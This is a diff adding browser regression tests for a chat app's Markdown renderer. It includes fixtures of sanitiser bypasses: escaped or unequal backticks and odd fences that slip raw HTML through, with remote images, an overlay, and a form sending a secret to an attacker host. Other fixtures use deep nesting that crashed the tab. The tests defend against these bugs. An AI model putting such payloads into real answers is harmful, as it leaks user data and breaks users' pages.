@@ -109,3 +109,62 @@ def test_document_preview_is_inert(make_session, launch_app, tmp_path, page):
     page.wait_for_selector("#doc-status >> text=Done")
     assert "Invoice" in page.frame_locator("#doc-preview iframe").locator("body").inner_text()
     _assert_inert(page, watch)
+
+
+# Where the old regex and CommonMark disagreed about code (issue 16): each hides live HTML from a pattern of our own.
+BYPASS_ANSWER = f"""Bypasses follow.
+
+\\`<img src="{EVIL}/escaped-tick.png">`
+
+``<picture><source srcset="{EVIL}/srcset.png"><img src="{EVIL}/pic.png"></picture>`
+
+```x`y
+<div id="overlay" style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>
+```
+
+    ```
+<form id="leak" action="{EVIL}/form"><input name="q" value="secret"><button id="send">send</button></form>
+<video autoplay src="{EVIL}/v.mp4"></video><audio autoplay src="{EVIL}/a.mp3"></audio>
+<svg><image href="{EVIL}/svg.png"/></svg><div style="background:url({EVIL}/css.png)">css</div>
+```
+
+END-OF-ANSWER"""
+# Nesting that crashed the tab (KaTeX) or blanked the answer (the Markdown renderer out of stack).
+DEEP_ANSWER = ("$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "$\n\n" + ">" * 5000 + " DEEP-QUOTE\n\n"
+               + "- " * 2000 + "DEEP-LIST\n\n" + "*" * 2500 + "DEEP-STARS" + "*" * 2500 + "\n\nEND-OF-ANSWER")
+
+
+def _ask(page, url: str, tokens: int | None = None):
+    watch = open_tab(page, url)
+    if tokens:  # more than the default answer length
+        page.get_by_text("Settings", exact=True).first.click()  # the closed accordion
+        page.get_by_label("number input for Max new tokens").first.fill(str(tokens))
+        page.keyboard.press("Tab")
+    page.fill("#chat-input textarea", "Answer")
+    page.keyboard.press("Enter")
+    page.wait_for_selector('[data-testid="bot"] >> text=tokens', timeout=300_000)  # the stats footer: done
+    return watch, page.locator('[data-testid="bot"]').last
+
+
+def test_chat_markdown_bypasses_are_inert(make_session, launch_app, page):
+    """Bug: an escaped backtick, unequal backtick runs, a backtick in a fence's info string and a fence indented
+    four spaces let raw HTML through: remote images, srcset, an overlay, a form that sent ?q=secret away."""
+    watch, bot = _ask(page, launch_app(make_session("qwen2_5_vl", BYPASS_ANSWER)).local_url)
+    assert "END-OF-ANSWER" in bot.inner_text() and "srcset=" in bot.inner_text()  # shown as text
+    assert bot.locator("img, picture, video, audio, svg image, form, input, #overlay, [style]").count() == 0
+    assert page.locator("#overlay, form#leak").count() == 0
+    _assert_inert(page, watch)
+
+
+def test_chat_survives_deep_nesting(make_session, launch_app, page):
+    """Bug: a formula nested 200 deep crashed the tab; a 5,000-level quote, a 2,000-level list or 5,000 asterisks
+    blanked the answer with "Maximum call stack size exceeded"."""
+    errors: list[str] = []
+    page.on("pageerror", lambda e: errors.append(str(e)))
+    watch, bot = _ask(page, launch_app(make_session("qwen2_5_vl", DEEP_ANSWER)).local_url, tokens=20_000)
+    text = bot.inner_text()
+    for marker in ("DEEP-QUOTE", "DEEP-LIST", "DEEP-STARS", "END-OF-ANSWER"):
+        assert marker in text, marker
+    assert not [e for e in errors if "call stack" in e], errors
+    assert page.evaluate("1 + 1") == 2  # the tab is alive
+    _assert_inert(page, watch)
